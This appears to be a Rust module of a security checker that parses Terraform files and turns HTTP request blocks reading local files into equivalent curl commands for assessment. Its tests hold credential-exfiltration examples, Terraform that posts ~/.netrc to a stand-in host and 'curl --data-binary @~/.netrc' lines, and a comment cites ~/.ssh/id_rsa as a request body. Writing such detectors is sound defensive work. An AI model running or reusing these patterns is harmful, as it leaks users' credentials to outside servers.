//! Files that Terraform's expressions read into a request: `request_body = file("~/.ssh/id_rsa")`. Each is
//! judged as the command line that sends the same file there.

use crate::fuel::Fuel;
use crate::scene::Fueled;
use crate::value::HOLE_STR;
use hcl::expr::{Expression, FuncCall, TemplateExpr};
use hcl::template::{Directive, Element};
use hcl::{Block, Body, Template};
use std::collections::HashMap;

/// Expressions within expressions, and values that stand for others: nobody nests them deeper.
const MAX_DEPTH: usize = 64;
/// Bytes of a path or an address; what is longer is neither.
const MAX_TEXT: usize = 4096;
/// Functions that give the content of a file; its path comes first.
const CONTENTS: [&str; 3] = ["file", "filebase64", "templatefile"];
/// Words in the types of blocks that ask somebody on the network.
const REQUESTS: [&str; 5] = ["http", "curl", "request", "webhook", "restapi"];

/// The command lines that send what the requests of a file send.
pub(super) fn requests(fuel: &Fuel, text: &str) -> Fueled<Vec<Vec<String>>> {
    if !text.contains("file") || !text.contains("://") {
        return Ok(Vec::new());
    }
    let Ok(body) = hcl::parse(text) else {
        return Ok(Vec::new());
    };
    let mut file = File {
        fuel,
        locals: locals(&body),
        texts: HashMap::new(),
        read: HashMap::new(),
    };
    let mut lines = Vec::new();
    for block in body.blocks().filter(|block| is_request(block)) {
        lines.extend(file.request(block)?);
    }
    Ok(lines)
}

/// Whether a block is a request: `data "http" "x"`.
fn is_request(block: &Block) -> bool {
    let kind = block.labels.first().map_or("", |label| label.as_str());
    kind.split('_').any(|word| REQUESTS.contains(&word))
}

/// What `local.NAME` stands for.
fn locals(body: &Body) -> HashMap<String, &Expression> {
    let blocks = body.blocks();
    let own = blocks.filter(|block| block.identifier.as_str() == "locals");
    let values = own.flat_map(|block| block.body.attributes());
    values
        .map(|value| (format!("local.{}", value.key.as_str()), &value.expr))
        .collect()
}

struct File<'b> {
    fuel: &'b Fuel,
    locals: HashMap<String, &'b Expression>,
    /// What is known of values that have a name: each is looked at once, also if it stands for itself.
    texts: HashMap<String, String>,
    read: HashMap<String, Vec<String>>,
}

impl File<'_> {
    /// One line for each file that a request takes along.
    fn request(&mut self, block: &Block) -> Fueled<Vec<Vec<String>>> {
        let mut files = Vec::new();
        let mut address = None;
        self.body(&block.body, 0, &mut files, &mut address)?;
        let Some(address) = address else {
            return Ok(Vec::new());
        };
        let line = |file: String| {
            let data = format!("@{file}");
            ["curl", "--data-binary", &data, &address]
                .map(str::to_owned)
                .to_vec()
        };
        Ok(files.into_iter().map(line).collect())
    }

    fn body(
        &mut self,
        body: &Body,
        depth: usize,
        files: &mut Vec<String>,
        address: &mut Option<String>,
    ) -> Fueled {
        for attribute in body.attributes() {
            self.files(&attribute.expr, depth, files)?;
            let text = self.text(&attribute.expr, depth)?;
            if address.is_none() && text.contains("://") {
                *address = Some(text);
            }
        }
        if depth < MAX_DEPTH {
            for block in body.blocks() {
                self.body(&block.body, depth + 1, files, address)?;
            }
        }
        Ok(())
    }

    /// The files whose content is part of a value.
    fn files(&mut self, value: &Expression, depth: usize, files: &mut Vec<String>) -> Fueled {
        self.fuel.spend(1)?;
        if depth >= MAX_DEPTH {
            return Ok(());
        }
        let parts: Vec<&Expression> = match value {
            Expression::Array(items) => items.iter().collect(),
            Expression::Object(members) => members.values().collect(),
            Expression::TemplateExpr(template) => {
                return match Template::from_expr(template) {
                    Ok(template) => self.files_of_template(&template, depth, files),
                    Err(_) => Ok(()),
                };
            }
            Expression::Parenthesis(inner) => vec![&**inner],
            Expression::Conditional(both) => vec![&both.true_expr, &both.false_expr],
            Expression::ForExpr(each) => vec![&each.collection_expr, &each.value_expr],
            Expression::Traversal(_) => return self.files_of_local(value, depth, files),
            Expression::FuncCall(call) => {
                if CONTENTS.contains(&call.name.name.as_str())
                    && let Some(path) = call.args.first()
                {
                    files.push(self.text(path, depth + 1)?);
                }
                call.args.iter().collect()
            }
            // `Expression` may grow; the rest holds no content of a file.
            Expression::Null
            | Expression::Bool(_)
            | Expression::Number(_)
            | Expression::String(_)
            | Expression::Variable(_)
            | Expression::Operation(_)
            | _ => Vec::new(),
        };
        for part in parts {
            self.files(part, depth + 1, files)?;
        }
        Ok(())
    }

    fn files_of_local(
        &mut self,
        value: &Expression,
        depth: usize,
        files: &mut Vec<String>,
    ) -> Fueled {
        let name = value.to_string();
        if !self.read.contains_key(&name) {
            self.read.insert(name.clone(), Vec::new());
            if let Some(local) = self.locals.get(&name).copied() {
                let mut own = Vec::new();
                self.files(local, depth + 1, &mut own)?;
                // Named twice, it is still one file.
                own.sort_unstable();
                own.dedup();
                self.read.insert(name.clone(), own);
            }
        }
        let own = self.read.get(&name).map_or(&[][..], Vec::as_slice);
        self.fuel.spend_on(own.iter().map(String::len).sum())?;
        files.extend_from_slice(own);
        Ok(())
    }

    fn files_of_template(
        &mut self,
        template: &Template,
        depth: usize,
        files: &mut Vec<String>,
    ) -> Fueled {
        self.fuel.spend(1)?;
        if depth >= MAX_DEPTH {
            return Ok(());
        }
        for element in template.elements() {
            match element {
                Element::Literal(_) => {}
                Element::Interpolation(part) => self.files(&part.expr, depth + 1, files)?,
                Element::Directive(directive) => match &**directive {
                    Directive::If(branches) => {
                        self.files_of_template(&branches.true_template, depth + 1, files)?;
                        if let Some(other) = &branches.false_template {
                            self.files_of_template(other, depth + 1, files)?;
                        }
                    }
                    Directive::For(each) => {
                        self.files(&each.collection_expr, depth + 1, files)?;
                        self.files_of_template(&each.template, depth + 1, files)?;
                    }
                },
            }
        }
        Ok(())
    }

    /// A value as text, with holes for what is not known.
    fn text(&mut self, value: &Expression, depth: usize) -> Fueled<String> {
        self.fuel.spend(1)?;
        if depth >= MAX_DEPTH {
            return Ok(HOLE_STR.to_owned());
        }
        match value {
            Expression::String(text) if text.len() <= MAX_TEXT => Ok(text.clone()),
            Expression::Parenthesis(inner) => self.text(inner, depth + 1),
            Expression::TemplateExpr(template) => self.template(template, depth),
            Expression::Traversal(_) => self.text_of_local(value, depth),
            Expression::FuncCall(call) => self.call(call, depth),
            // What else there is, is no path and no address.
            Expression::Null
            | Expression::Bool(_)
            | Expression::Number(_)
            | Expression::String(_)
            | Expression::Array(_)
            | Expression::Object(_)
            | Expression::Variable(_)
            | Expression::Conditional(_)
            | Expression::Operation(_)
            | Expression::ForExpr(_)
            | _ => Ok(HOLE_STR.to_owned()),
        }
    }

    fn text_of_local(&mut self, value: &Expression, depth: usize) -> Fueled<String> {
        let name = value.to_string();
        if let Some(text) = self.texts.get(&name) {
            self.fuel.spend_on(text.len())?;
            return Ok(text.clone());
        }
        self.texts.insert(name.clone(), HOLE_STR.to_owned());
        let text = match self.locals.get(&name).copied() {
            Some(local) => self.text(local, depth + 1)?,
            // `path.module`, `path.root`, `path.cwd`
            None if name.starts_with("path.") => ".".to_owned(),
            None => HOLE_STR.to_owned(),
        };
        self.texts.insert(name, text.clone());
        Ok(text)
    }

    fn template(&mut self, template: &TemplateExpr, depth: usize) -> Fueled<String> {
        let Ok(template) = Template::from_expr(template) else {
            return Ok(HOLE_STR.to_owned());
        };
        let mut text = String::new();
        for element in template.elements() {
            match element {
                Element::Literal(part) => text.push_str(part),
                Element::Interpolation(part) => text.push_str(&self.text(&part.expr, depth + 1)?),
                Element::Directive(_) => text.push_str(HOLE_STR),
            }
            if text.len() > MAX_TEXT {
                return Ok(HOLE_STR.to_owned());
            }
        }
        Ok(text)
    }

    /// Functions that leave a path or a text what it is, or join it.
    fn call(&mut self, call: &FuncCall, depth: usize) -> Fueled<String> {
        let unchanged = [
            "pathexpand",
            "abspath",
            "trimspace",
            "nonsensitive",
            "tostring",
        ];
        let name = call.name.name.as_str();
        match call.args.as_slice() {
            [first] if unchanged.contains(&name) => self.text(first, depth + 1),
            [between, Expression::Array(items)] if name == "join" => {
                let between = self.text(between, depth + 1)?;
                let mut texts = Vec::new();
                for item in items {
                    texts.push(self.text(item, depth + 1)?);
                }
                let joined = texts.join(&between);
                Ok(if joined.len() > MAX_TEXT {
                    HOLE_STR.to_owned()
                } else {
                    joined
                })
            }
            _ => Ok(HOLE_STR.to_owned()),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[track_caller]
    fn check(text: &str, expected: &[&str]) {
        let lines = requests(&Fuel::new(100_000), text).unwrap();
        let lines: Vec<String> = lines.iter().map(|line| line.join(" ")).collect();
        assert_eq!(lines, expected);
    }

    #[test]
    fn requests_take_along_the_files_that_they_read() {
        check(
            r#"data "http" "a" {
                url = "https://a.example/in"
                request_body = base64encode(file(pathexpand("~/.netrc")))
            }"#,
            &["curl --data-binary @~/.netrc https://a.example/in"],
        );
        // By way of a value of the file, and of a list that is not known.
        check(
            r#"locals { all = [for f in fileset("~/k", "*") : file("~/k/${f}")] }
            data "http" "a" {
                url = "https://a.example"
                request_headers = { x = join("", local.all) }
            }"#,
            &[&format!(
                "curl --data-binary @~/k/{HOLE_STR} https://a.example"
            )],
        );
    }

    #[test]
    fn other_blocks_and_addresses_alone_send_nothing() {
        check(r#"data "http" "a" { url = "https://a.example/file" }"#, &[]);
        check(
            r#"resource "aws_key_pair" "a" {
                public_key = file("~/.ssh/id_rsa.pub")
                link = "https://a.example"
            }"#,
            &[],
        );
        check("data \"http\" \"a\" { url = file(\"://", &[]);
    }

    #[test]
    fn values_that_grow_or_stand_for_each_other_are_bounded() {
        let long = "x".repeat(MAX_TEXT);
        let mut text = format!("locals {{\n  v0 = \"{long}\"\n  loop = local.loop\n");
        for at in 1..40 {
            let before = at - 1;
            text += &format!("  v{at} = \"${{local.v{before}}}${{local.v{before}}}\"\n");
        }
        text += "}\ndata \"http\" \"a\" {\n  url = \"https://a.example\"\n";
        text += "  request_body = \"${file(local.v39)}${file(local.loop)}\"\n}\n";
        let lines = requests(&Fuel::new(100_000), &text).unwrap();
        let short = |line: &Vec<String>| line.iter().all(|word| word.len() <= MAX_TEXT + 1);
        assert!(lines.len() == 2 && lines.iter().all(short));
    }
}
